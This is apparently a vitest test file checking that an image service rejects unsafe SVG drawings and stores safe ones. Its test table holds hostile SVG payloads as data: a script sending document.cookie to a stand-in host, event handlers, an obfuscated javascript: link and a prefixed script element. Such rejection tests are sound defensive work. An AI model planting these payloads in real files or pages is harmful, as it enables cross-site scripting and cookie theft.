import { afterAll, beforeAll, expect, test } from 'vitest';
import { TestStack } from './support/stack.ts';
import { TestUser } from './support/user.ts';

/** Vector graphics: stored as images that browsers show, and never with a script in them. */

const SVG_MODEL = 'recraft-ai/recraft-v3-svg';

let stack: TestStack;
let user: TestUser;

beforeAll(async () => {
  stack = await TestStack.start();
  user = await TestUser.signUp(stack);
});
afterAll(() => stack?.stop());

async function start(prompt: string, fileBody?: string) {
  if (fileBody !== undefined) await stack.simulator.fault(prompt, { file: 'replaced', file_body: fileBody });
  return user.start({ prompt, model_id: SVG_MODEL });
}

const svg = (content: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"${attributes}><path d="M0 0h9v9z"/>${content}</svg>`;

test('a drawing is stored under the type that browsers show it by', async () => {
  const { generation_id } = await start('a logo');
  const [image] = (await user.completed(generation_id)).images;
  const answer = await fetch(image?.url ?? '');
  expect([image?.format, answer.headers.get('content-type')]).toEqual(['svg', 'image/svg+xml']);
  expect(await answer.text()).toMatch(/^<svg [\s\S]*<\/svg>$/);
});

test('what drawing programs add is no reason to refuse', async () => {
  const drawing = `<?xml version="1.0" encoding="UTF-8"?>\n<!-- drawn -->${svg(
    '<style>.a{fill:url(#g)}</style><sodipodi:namedview xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"/>' +
      '<image href="data:image/png;base64,iVBORw0KGgo="/><text>r&#233;sum&#233; &lt;3</text>',
  )}`;
  const { generation_id } = await start('drawn', drawing);
  const [image] = (await user.completed(generation_id)).images;
  expect(await (await fetch(image?.url ?? '')).text()).toBe(drawing);
});

const FAR = '<g><path d="M1 1h1v1z"/></g>'.repeat(20_000);

test.each<[string, string, string?]>([
  ['a script', svg('<script>fetch("https://x.example/?" + document.cookie)</script>')],
  ['a script far behind the beginning', svg(`${FAR}<script>alert(1)</script>`)],
  ['an event handler', svg('', ' onload="alert(1)"')],
  ['HTML in it', svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>')],
  ['a link to a script', svg('<a href="java&#115;cript:alert(1)"><circle r="4"/></a>')],
  ['a script under a prefix', svg('<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>')],
  ['another file in it', svg('<image href="https://x.example/pixel.png"/>')],
  ['a handler set by animation', svg('<set attributeName="onclick" to="alert(1)"/>')],
  ['an entity of its own', `<!DOCTYPE svg [<!ENTITY a "b">]>${svg('&a;')}`, 'output_unusable'],
  ['a style sheet from elsewhere', `<?xml-stylesheet href="https://x.example/a.xsl"?>${svg('')}`],
])('a drawing with %s is not stored', async (what, body, code = 'output_unsafe') => {
  const { generation_id } = await start(`a drawing with ${what}`, body);
  const generation = await user.ended(generation_id);
  expect(generation).toMatchObject({ status: 'failed', error: { code }, images: [] });
  expect(generation.error?.message).not.toMatch(/script|<|https/);
  const objects = await stack.sql`select name from storage.objects where name like ${`%${generation_id}%`}`;
  expect([...objects], 'nothing may be in the bucket').toEqual([]);
  const [download] = (await stack.jobs(generation_id)).filter(
    ({ job_type }) => job_type === 'download-image',
  );
  expect(download, 'another attempt would find the same').toMatchObject({ status: 'failed', attempts: 1 });
});
